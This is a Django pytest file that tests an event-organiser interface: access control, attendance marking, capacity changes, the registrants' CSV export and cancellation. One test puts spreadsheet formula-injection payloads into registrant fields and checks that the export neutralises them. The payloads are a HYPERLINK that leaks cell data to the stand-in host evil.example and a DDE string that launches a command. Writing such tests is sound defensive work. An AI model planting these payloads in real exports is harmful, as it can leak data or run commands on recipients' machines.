"""The organisers' pages: attendance sheet, number of places, CSV export."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from labnet.core.models import AuditEntry
from labnet.events.enums import Attendance, RegistrationStatus
from tests.events.factories import EventFactory, RegistrationFactory

pytestmark = pytest.mark.django_db


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body), delimiter=";"))


@pytest.fixture
def event(lab):
    return EventFactory(key="atelier", organiser_lab=lab, capacity=3)


def test_the_attendance_sheet_is_for_organisers_only(client, event, agent, lab_member):
    RegistrationFactory(event=event, full_name="Paul Présent", email="paul@exemple.gouv.fr")

    assert client.get("/evenements/atelier/presences/").status_code == 302  # sign in first
    client.force_login(agent)
    refused = client.get("/evenements/atelier/presences/")
    assert refused.status_code == 403
    assert "paul@exemple.gouv.fr" not in refused.content.decode()
    assert client.get("/evenements/atelier/inscrits.csv").status_code == 403

    client.force_login(lab_member)
    page = client.get("/evenements/atelier/presences/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "paul@exemple.gouv.fr" in html
    assert "Données personnelles : liste réservée aux organisateurs" in html


def test_the_organiser_marks_attendance_in_one_form(client, event, lab_member):
    paul = RegistrationFactory(event=event, full_name="Paul")
    anne = RegistrationFactory(event=event, full_name="Anne")
    client.force_login(lab_member)

    response = client.post(
        "/evenements/atelier/presences/",
        {f"attendance_{paul.pk}": "present", f"attendance_{anne.pk}": "absent"},
    )

    assert response.status_code == 302
    paul.refresh_from_db()
    anne.refresh_from_db()
    assert (paul.attendance, anne.attendance) == (Attendance.PRESENT, Attendance.ABSENT)
    assert AuditEntry.objects.filter(action="events.attendance_mark").count() == 1


def test_a_bad_attendance_value_is_refused_and_nothing_changes(client, event, lab_member):
    paul = RegistrationFactory(event=event, full_name="Paul")
    client.force_login(lab_member)

    response = client.post("/evenements/atelier/presences/", {f"attendance_{paul.pk}": "peut-être"})

    assert response.status_code == 400
    paul.refresh_from_db()
    assert paul.attendance == ""


def test_capacity_below_the_registrations_is_refused_with_a_message(client, event, lab_member):
    RegistrationFactory.create_batch(3, event=event)
    client.force_login(lab_member)

    response = client.post("/evenements/atelier/places/", {"capacity": "2"})

    assert response.status_code == 400
    html = response.content.decode()
    assert (
        "3 personnes sont déjà inscrites : le nombre de places ne peut pas descendre sous 3."
        in html
    )
    assert 'value="2"' in html  # what was typed is kept
    event.refresh_from_db()
    assert event.capacity == 3


def test_more_places_promote_the_waiting_list(client, event, lab_member):
    RegistrationFactory.create_batch(3, event=event)
    waiting = RegistrationFactory(event=event, status=RegistrationStatus.WAITING, position=1)
    client.force_login(lab_member)

    response = client.post("/evenements/atelier/places/", {"capacity": "4"})

    assert response.status_code == 302
    waiting.refresh_from_db()
    assert waiting.status == RegistrationStatus.CONFIRMED


def test_the_export_is_a_csv_that_says_it_holds_personal_data(client, event, lab_member):
    RegistrationFactory(
        event=event,
        full_name="Paul Présent",
        email="paul@exemple.gouv.fr",
        organisation_name="DDT de l'Eure",
        attendance=Attendance.PRESENT,
    )
    RegistrationFactory(
        event=event,
        full_name="Wanda Waiting",
        email="wanda@exemple.gouv.fr",
        status=RegistrationStatus.WAITING,
        position=1,
    )
    client.force_login(lab_member)

    response = client.get("/evenements/atelier/inscrits.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="inscrits-atelier-donnees-personnelles.csv"'
    )
    rows = _csv_rows(response)
    assert rows[0] == [
        "Nom",
        "Adresse électronique",
        "Administration",
        "Statut",
        "Rang d'attente",
        "Présence",
        "Inscrit le",
    ]
    assert [row[:6] for row in rows[1:3]] == [
        ["Paul Présent", "paul@exemple.gouv.fr", "DDT de l'Eure", "inscrit", "", "présent"],
        ["Wanda Waiting", "wanda@exemple.gouv.fr", "", "liste d'attente", "1", ""],
    ]
    # The header row first; the personal-data notice after the rows, and in the name.
    assert rows[3:] == [
        [],
        [
            "Données personnelles : liste réservée aux organisateurs de l'événement, pour son "
            "organisation uniquement. Ne pas diffuser ; supprimer après l'événement."
        ],
    ]
    assert "donnees-personnelles" in response["Content-Disposition"]
    entry = AuditEntry.objects.get(action="events.event_attendees_export")
    assert entry.actor == lab_member
    assert entry.changes == {"rows": 2}


@pytest.mark.parametrize(
    ("url", "queries"),
    [
        # session, user, event (+ places), the user's lab roles, the registrations counted
        # by status, one page of them, + header labs
        ("/evenements/atelier/presences/", 7),
        # session, user, event, lab roles, the count, the audit entry of the download (the
        # chain head locked, the entry, the head moved on: docs/adr/0022), the rows
        # (streamed in chunks of 1,000: one query here)
        ("/evenements/atelier/inscrits.csv", 9),
    ],
)
def test_organiser_pages_do_not_grow_with_registrations(client, event, lab_member, url, queries):
    client.force_login(lab_member)

    def count():
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(url)
            assert response.status_code == 200
            if response.streaming:
                b"".join(response.streaming_content)
        return len(ctx.captured_queries)

    RegistrationFactory.create_batch(2, event=event)
    two = count()
    RegistrationFactory.create_batch(8, event=event, status=RegistrationStatus.WAITING)
    assert (two, count()) == (queries, queries)


def test_the_organiser_cancels_the_event_with_a_reason(client, event, lab_member):
    client.force_login(lab_member)

    empty = client.post("/evenements/atelier/annulation/", {"reason": ""})
    assert empty.status_code == 400
    assert "Dites pourquoi l&#x27;événement est annulé" in empty.content.decode()
    event.refresh_from_db()
    assert event.status == "published"

    response = client.post("/evenements/atelier/annulation/", {"reason": "Salle indisponible."})

    assert response.status_code == 302
    event.refresh_from_db()
    assert event.status == "cancelled"
    page = client.get("/evenements/atelier/").content.decode()
    assert "Cet événement est annulé" in page
    assert "https://schema.org/EventCancelled" in page


def test_the_export_writes_formulas_typed_by_visitors_as_text(client, event, lab_member):
    RegistrationFactory(
        event=event,
        full_name='=HYPERLINK("http://evil.example/?x="&B3,"Cliquez")',
        email="eve@exemple.fr",
        organisation_name="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    RegistrationFactory(
        event=event, full_name="-Moins", email="m@exemple.fr", organisation_name="+33 1 23"
    )
    client.force_login(lab_member)

    response = client.get("/evenements/atelier/inscrits.csv")

    rows = _csv_rows(response)
    assert [row[:3] for row in rows[1:3]] == [
        [
            '\'=HYPERLINK("http://evil.example/?x="&B3,"Cliquez")',
            "eve@exemple.fr",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
        ],
        ["'-Moins", "m@exemple.fr", "'+33 1 23"],
    ]


def test_the_sheet_shows_one_page_of_one_list_at_a_time(client, event, lab_member, monkeypatch):
    from labnet.www.events import organiser_views

    monkeypatch.setattr(organiser_views, "SHEET_PAGE_SIZE", 2)
    event.capacity = None
    event.save()
    for name in ("Ana", "Bob", "Cyd"):
        RegistrationFactory(event=event, full_name=name, email=f"{name.lower()}@ex.fr")
    RegistrationFactory(event=event, full_name="Wes", status=RegistrationStatus.WAITING, position=1)
    client.force_login(lab_member)

    first = client.get("/evenements/atelier/presences/").content.decode()
    second = client.get("/evenements/atelier/presences/?page=2").content.decode()
    waiting = client.get("/evenements/atelier/presences/?liste=waiting").content.decode()

    assert "ana@ex.fr" in first and "bob@ex.fr" in first and "cyd@ex.fr" not in first
    assert "cyd@ex.fr" in second and "ana@ex.fr" not in second
    assert "3 inscrits confirmés" in first
    assert "Liste d'attente (1)" in first
    assert '<ol id="waiting"><li value="1">Wes' in waiting
    assert 'id="confirmed"' not in waiting


def test_the_sheet_finds_a_person_by_name_ignoring_accents(client, event, lab_member):
    RegistrationFactory(event=event, full_name="Hélène Martin", email="h@ex.fr")
    RegistrationFactory(event=event, full_name="Paul Durand", email="p@ex.fr")
    client.force_login(lab_member)

    html = client.get("/evenements/atelier/presences/?q=helene").content.decode()

    assert "h@ex.fr" in html and "p@ex.fr" not in html
    assert "1 personne trouvée." in html


def test_saving_a_page_of_marks_leaves_the_other_pages_alone(client, event, lab_member):
    paul = RegistrationFactory(event=event, full_name="Paul", attendance=Attendance.PRESENT)
    anne = RegistrationFactory(event=event, full_name="Anne")
    client.force_login(lab_member)

    response = client.post(
        "/evenements/atelier/presences/",
        {f"attendance_{anne.pk}": "absent", "return": "page=2&q=anne&evil=1"},
    )

    assert response.status_code == 302
    assert response["Location"] == "/evenements/atelier/presences/?q=anne&page=2"
    paul.refresh_from_db()
    anne.refresh_from_db()
    assert (paul.attendance, anne.attendance) == (Attendance.PRESENT, Attendance.ABSENT)


def test_marks_of_another_event_or_status_are_ignored(client, event, lab_member):
    other = RegistrationFactory(full_name="Elsewhere")
    waiting = RegistrationFactory(event=event, status=RegistrationStatus.WAITING, position=1)
    client.force_login(lab_member)

    response = client.post(
        "/evenements/atelier/presences/",
        {f"attendance_{other.pk}": "present", f"attendance_{waiting.pk}": "present"},
    )

    assert response.status_code == 302
    other.refresh_from_db()
    waiting.refresh_from_db()
    assert (other.attendance, waiting.attendance) == ("", "")
